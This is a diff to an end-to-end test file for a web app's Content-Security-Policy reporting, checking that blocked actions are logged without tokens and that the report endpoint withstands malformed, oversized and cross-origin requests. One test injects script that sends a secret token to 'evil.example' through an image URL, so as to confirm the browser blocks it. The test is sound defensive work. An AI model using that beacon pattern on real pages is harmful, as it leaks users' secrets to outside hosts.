@@ -43,6 +43,12 @@ function missingIn(path: string, { headers }: Answered): string[] {
   );
   if (!isShared.test(path) && !/\bno-store\b/.test(headers["cache-control"] ?? ""))
     wrong.push(`cache-control: ${headers["cache-control"]}`);
+  const reports = "/policy-reports";
+  const policy = String(headers["content-security-policy"]);
+  if (/\bnonce-/.test(policy)) {
+    if (!policy.includes(`; report-to policy; report-uri ${reports}`)) wrong.push("a policy that reports nothing");
+    if (headers["reporting-endpoints"] !== `policy="${reports}"`) wrong.push("reports that go nowhere");
+  }
   if (storedFile.test(path) && !policyOfFiles.test(String(headers["content-security-policy"])))
     wrong.push("a file without its policy");
   if (headers["x-powered-by"] !== undefined || headers.server !== undefined) wrong.push("names its program");
@@ -166,6 +172,86 @@ test("a hundred loads of a page have a hundred nonces, each on every script of i
       expect(scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);
     }
     expect(nonces.size).toBe(100);
+  } finally {
+    await desk.remove();
+  }
+});
+
+const reported = "a page was kept from doing what its policy forbids";
+
+test("what a browser keeps a page from arrives in the log, without tokens and ids", async ({ page }) => {
+  const desk = await startDesk();
+  try {
+    const token = "hN3x0aVq7bXyZ2kQ9mRr5tUw1cDe4fGh6iJk8lMnOpA";
+    await page.goto(`${desk.url}/invitation/${token}?next=${token}`);
+    await page.evaluate((secret) => {
+      new Image().src = `https://evil.example/${secret}?${secret}`;
+      const style = document.createElement("style");
+      style.textContent = secret;
+      document.body.append(style);
+    }, token);
+    const lines = () =>
+      desk
+        .output()
+        .split("\n")
+        .filter((line) => line.includes(reported))
+        .map((line) => JSON.parse(line));
+    await expect.poll(() => lines().length).toBe(2);
+    const [picture, style] = lines().sort((a, b) => (a.directive < b.directive ? -1 : 1));
+    expect(picture).toMatchObject({ directive: "img-src", blocked: "https://evil.example", path: "/invitation/*" });
+    expect(style).toMatchObject({ directive: "style-src-elem", blocked: "inline", path: "/invitation/*" });
+    expect(desk.output()).not.toContain(token);
+  } finally {
+    await desk.remove();
+  }
+});
+
+test("reports are taken from anybody, whatever stands in them, and a thousand of them are a few lines of the log", async () => {
+  test.setTimeout(120_000);
+  const desk = await startDesk();
+  try {
+    const send = (body: string | Buffer<ArrayBuffer>, headers: Record<string, string> = {}, method = "POST") =>
+      fetch(`${desk.url}/policy-reports`, {
+        method,
+        headers: { "content-type": "application/csp-report", ...headers },
+        ...(method === "GET" ? {} : { body }),
+      }).then(({ status }) => status);
+    const report = JSON.stringify({ "csp-report": { "violated-directive": "img-src", "document-uri": desk.url } });
+    for (const headers of [
+      {},
+      { origin: "null" },
+      { origin: desk.url },
+      { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
+    ])
+      expect(await send(report, headers), JSON.stringify(headers)).toBe(204);
+    for (const type of [
+      "application/reports+json",
+      "text/plain",
+      "multipart/form-data",
+      "multipart/form-data; boundary=x",
+    ])
+      for (const body of ["", "{", "null", "[".repeat(8000), Buffer.of(0xff, 0, 0xfe), "--x\r\n"])
+        expect(await send(body, { "content-type": type }), `${type} ${body.slice(0, 9)}`).toBe(204);
+    for (const bytes of [8193, 20_000]) expect(await send("x".repeat(bytes)), `${bytes}`).toBe(413);
+    for (const method of ["GET", "PUT", "DELETE"]) expect(await send(report, { origin: desk.url }, method)).toBe(405);
+    // What this path alone lets in leads to nothing else.
+    const { id = "" } = placedActions().changeLanguage ?? {};
+    const acted = await fetch(`${desk.url}/policy-reports`, {
+      method: "POST",
+      headers: { "next-action": id, "content-type": "text/plain" },
+      body: '["ko"]',
+    });
+    expect([acted.status, acted.headers.get("set-cookie")]).toEqual([204, null]);
+    for (const path of ["/policy-reports/", "/policy-reports/../sign-in", "/sign-in"])
+      expect((await fetch(`${desk.url}${path}`, { method: "POST", redirect: "manual", body: report })).status).toBe(
+        403,
+      );
+
+    const answers = await Promise.all(Array.from({ length: 1000 }, () => send(report)));
+    expect(answers.filter((status) => status !== 204)).toEqual([]);
+    const count = (event: string) => desk.output().split(event).length - 1;
+    expect(count(reported)).toBeLessThanOrEqual(20);
+    expect(desk.output()).not.toContain('"level":"error"');
   } finally {
     await desk.remove();
   }
